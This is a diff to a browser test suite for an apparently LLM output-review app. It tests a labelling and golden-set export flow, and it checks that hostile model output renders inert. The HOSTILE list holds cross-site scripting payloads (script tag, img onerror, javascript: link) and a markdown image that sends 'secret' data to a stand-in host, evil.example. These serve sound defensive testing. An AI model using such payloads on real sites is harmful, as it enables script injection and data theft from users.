@@ -4,18 +4,24 @@
 A failing test leaves a screenshot in tests/artifacts/.
 """
 
+import asyncio
+import json
 import os
+import re
 import shutil
+import sqlite3
 import socket
 import subprocess
 import sys
 import time
 import urllib.request
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pytest
 
 from conftest import ROOT
+from core import runner
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 ARTIFACTS = ROOT / "tests" / "artifacts"
@@ -79,30 +85,103 @@ def page(request):
         browser.close()
 
 
+def goto(page, name: str) -> None:
+    """Open a page through the sidebar navigation, as a user does."""
+    page.get_by_role("link", name=name).click()
+    page.get_by_role("heading", name=name).first.wait_for(timeout=30_000)
+
+
 @pytest.mark.local_model
-def test_newcomer_runs_a_small_grid_on_the_local_model(served_app, page):
+def test_newcomer_path_run_spread_label_golden_export(served_app, page, tmp_path):
     url, db_path = served_app
     page.goto(url)
+    page.get_by_role("textbox", name="Reviewer").fill("ana")
+    page.get_by_role("textbox", name="Reviewer").press("Enter")
     page.get_by_role("textbox", name="Prompt", exact=True).fill("What is the capital of France?")
-    temperatures = page.get_by_role("textbox", name="Temperatures")
-    temperatures.fill("0, 1")
-    samples = page.get_by_role("spinbutton", name="Samples (N)")
-    samples.fill("2")
+    page.get_by_role("textbox", name="Temperatures").fill("0, 1")
+    page.get_by_role("spinbutton", name="Samples (N)").fill("3")
     page.get_by_role("spinbutton", name="Max tokens").fill("12")
     page.get_by_role("button", name="Run").click()
 
+    # The progress bar fills in, then the run is done.
     page.get_by_text("Run 1: running").or_(page.get_by_text("Run 1: done")).first.wait_for(timeout=60_000)
     page.get_by_text("Run 1: done").wait_for(timeout=120_000)
-    page.get_by_text("4/4 samples").wait_for(timeout=10_000)
-
-    import sqlite3
-
+    page.get_by_text("6/6 samples").wait_for(timeout=10_000)
     with sqlite3.connect(db_path) as db:
-        rows = db.execute("select model, temperature, error_type, text from responses").fetchall()
-    assert len(rows) == 4
-    assert all(model == "local/gemma-3-270m" and error is None for model, _, error, _ in rows)
+        rows = db.execute("select model, error_type, text from responses").fetchall()
+        assert db.execute("select created_by from runs").fetchone()[0] == "ana"
+    assert len(rows) == 6 and all(m == "local/gemma-3-270m" and e is None for m, e, _ in rows)
 
-    page.get_by_text("Open run 1").click()
-    page.get_by_text("Run 1: done").wait_for(timeout=30_000)
+    goto(page, "Spread")
+    page.locator(".js-plotly-plot").first.wait_for(timeout=60_000)
+    assert page.locator(".js-plotly-plot").count() >= 5
+    page.get_by_text("meaning clusters across the run").wait_for()
+
+    goto(page, "Review")
+    page.get_by_text("1 of").first.wait_for(timeout=60_000)
+    first = page.get_by_role("heading", name=re.compile(r"^1 of \d+")).inner_text()
+    size = int(re.search(r"cluster of (\d+)", first).group(1)) if "cluster" in first else 1
+    page.get_by_role("heading", name="Review").first.click()  # focus out of any text box
+    page.keyboard.press("p")  # the Pass shortcut
+    page.get_by_text(f"{size}/6 answers labelled by ana").wait_for(timeout=30_000)
+    with sqlite3.connect(db_path) as db:
+        labels = db.execute("select reviewer, verdict, via_cluster from labels").fetchall()
+    assert len(labels) == size and {(r, v) for r, v, _ in labels} == {("ana", "pass")}
+
+    if page.get_by_role("heading", name=re.compile(r"^2 of")).count():
+        page.keyboard.press("k")  # back to the cluster just passed (the Previous shortcut)
+    page.get_by_role("heading", name=re.compile(r"^1 of")).wait_for(timeout=30_000)
+    page.get_by_text("Add to a golden set").click()
+    page.get_by_role("textbox", name="…or a new set").fill("capitals")
+    page.get_by_role("button", name="Add the representative answer").click()
+    page.get_by_text("Added to 'capitals': version 1").wait_for(timeout=30_000)
+
+    page.keyboard.press("Escape")
+    goto(page, "Golden sets")
+    with page.expect_download(timeout=30_000) as download:
+        page.get_by_role("button", name="jsonl").click()
+    exported = tmp_path / "capitals.jsonl"
+    download.value.save_as(exported)
+    (item,) = [json.loads(line) for line in exported.read_text().splitlines()]
+    assert item["set"] == "capitals" and item["set_version"] == 1
+    assert item["input"]["prompt"] == "What is the capital of France?"
+    assert item["reference"] and item["accepted"]
     ARTIFACTS.mkdir(exist_ok=True)
-    page.screenshot(path=str(ARTIFACTS / "runs-page.png"), full_page=True)
+    page.screenshot(path=str(ARTIFACTS / "golden-page.png"), full_page=True)
+
+
+HOSTILE = [
+    "<script>window.__pwned = 'script'</script>",
+    '<img src=x onerror="window.__pwned = \'img\'">',
+    "![leak](http://evil.example/leak.png?data=secret)",
+    "[click me](javascript:window.__pwned='link')",
+]
+
+
+def test_model_output_is_shown_inert_in_the_browser(served_app, page, stub):
+    url, db_path = served_app
+    stub.answers = HOSTILE
+    run_id = runner.create(runner.RunSpec(prompt="Say something.", models=["openai/stub-a"], temperatures=[1.0],
+                                          n=12, api_base=stub.base_url, seed=1), db_path=db_path)
+    # Playwright's sync API owns this thread's event loop: sample on another thread.
+    with ThreadPoolExecutor(1) as pool:
+        pool.submit(asyncio.run, runner.execute(run_id, db_path=db_path)).result()
+    dialogs, requests = [], []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    page.on("request", lambda r: requests.append(r.url))
+    page.goto(url)
+    page.get_by_role("textbox", name="Reviewer").fill("ana")
+    page.get_by_role("textbox", name="Reviewer").press("Enter")
+    for name in ("Runs", "Spread", "Review", "Compare"):
+        goto(page, name)
+        page.wait_for_timeout(1500)
+        for expander in page.locator("details summary").all()[:6]:
+            expander.click()
+        page.wait_for_timeout(500)
+        assert page.evaluate("window.__pwned") is None, name
+        assert page.locator("img[src='x'], img[src*='evil.example']").count() == 0, name
+        assert page.locator("a[href^='javascript:']").count() == 0, name
+    shown = page.locator('[data-testid="stText"]').filter(has_text=re.compile(r"__pwned|evil\.example"))
+    shown.first.wait_for()  # the answers are on the page, as plain text
+    assert not dialogs
+    assert not [u for u in requests if "evil.example" in u]
